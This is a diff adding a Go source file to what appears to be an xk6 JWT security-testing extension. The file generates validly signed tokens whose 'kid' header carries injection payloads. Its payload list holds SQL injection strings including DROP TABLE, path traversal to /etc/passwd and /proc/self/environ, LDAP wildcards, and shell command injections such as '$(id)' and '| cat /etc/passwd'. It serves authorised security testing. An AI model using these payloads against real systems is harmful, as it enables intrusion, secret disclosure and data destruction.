@@ -0,0 +1,130 @@
+// MIT License
+//
+// Copyright (c) 2021 Iván Szkiba
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package tamper
+
+import (
+	"fmt"
+	"sort"
+
+	"github.com/go-jose/go-jose/v4"
+	"github.com/szkiba/xk6-jose/jwt"
+)
+
+// injection strings targeting key lookup by kid (database, file system, directory and shell)
+var kidPayloads = map[string][]string{
+	"sql": {
+		"' OR '1'='1",
+		"' OR 1=1 --",
+		"' UNION SELECT 'secret' --",
+		"1; DROP TABLE keys; --",
+		"x' AND SLEEP(5) --",
+	},
+	"path": {
+		"../../../../../../etc/passwd",
+		"../../../../../../dev/null",
+		"..%2f..%2f..%2f..%2fetc%2fpasswd",
+		"....//....//....//etc/hosts",
+		"/proc/self/environ",
+		"..\\..\\..\\windows\\win.ini",
+	},
+	"ldap": {
+		"*",
+		"*)(objectClass=*",
+		"admin)(|(uid=*))",
+		"*)(|(cn=*",
+		"\\2a",
+	},
+	"command": {
+		"$(id)",
+		"`id`",
+		"| cat /etc/passwd",
+		"; ls -la",
+		"key && sleep 5",
+	},
+}
+
+type KidInjectionOptions struct {
+	Kinds    []string               `js:"kinds"`
+	Payloads []string               `js:"payloads"`
+	Header   map[string]interface{} `js:"header"`
+}
+
+type KidToken struct {
+	Kind  string `js:"kind"`
+	Kid   string `js:"kid"`
+	Token string `js:"token"`
+}
+
+// KidInjection creates validly signed tokens with injection strings in the kid header.
+func (m *Module) KidInjection(
+	key *jose.JSONWebKey,
+	claims map[string]interface{},
+	options *KidInjectionOptions,
+) ([]KidToken, error) {
+	if options == nil {
+		options = &KidInjectionOptions{}
+	}
+
+	kinds := options.Kinds
+	if len(kinds) == 0 && len(options.Payloads) == 0 {
+		for kind := range kidPayloads {
+			kinds = append(kinds, kind)
+		}
+
+		sort.Strings(kinds)
+	}
+
+	result := []KidToken{}
+
+	add := func(kind, kid string) error {
+		token, err := jwt.Sign(key, claims, jwt.Merge(options.Header, map[string]interface{}{"kid": kid}))
+		if err != nil {
+			return err
+		}
+
+		result = append(result, KidToken{Kind: kind, Kid: kid, Token: token})
+
+		return nil
+	}
+
+	for _, kind := range kinds {
+		payloads, ok := kidPayloads[kind]
+		if !ok {
+			return nil, fmt.Errorf("%w: %s", ErrUnknownKind, kind)
+		}
+
+		for _, kid := range payloads {
+			if err := add(kind, kid); err != nil {
+				return nil, err
+			}
+		}
+	}
+
+	for _, kid := range options.Payloads {
+		if err := add("custom", kid); err != nil {
+			return nil, err
+		}
+	}
+
+	return result, nil
+}